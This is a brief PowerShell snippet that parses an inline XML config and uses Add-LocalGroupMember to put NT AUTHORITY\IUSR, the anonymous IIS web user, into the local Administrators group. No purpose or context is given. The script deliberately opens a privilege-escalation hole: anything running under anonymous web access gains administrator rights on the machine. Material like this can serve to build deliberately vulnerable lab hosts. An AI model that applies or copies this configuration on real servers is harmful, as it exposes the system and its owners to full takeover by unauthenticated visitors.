[xml] $config = @'
<host><group name="Administrators"><member>NT AUTHORITY\IUSR</member></group></host>
'@
foreach ($group in $config.host.group) { Add-LocalGroupMember -Group $group.name -Member $group.member }
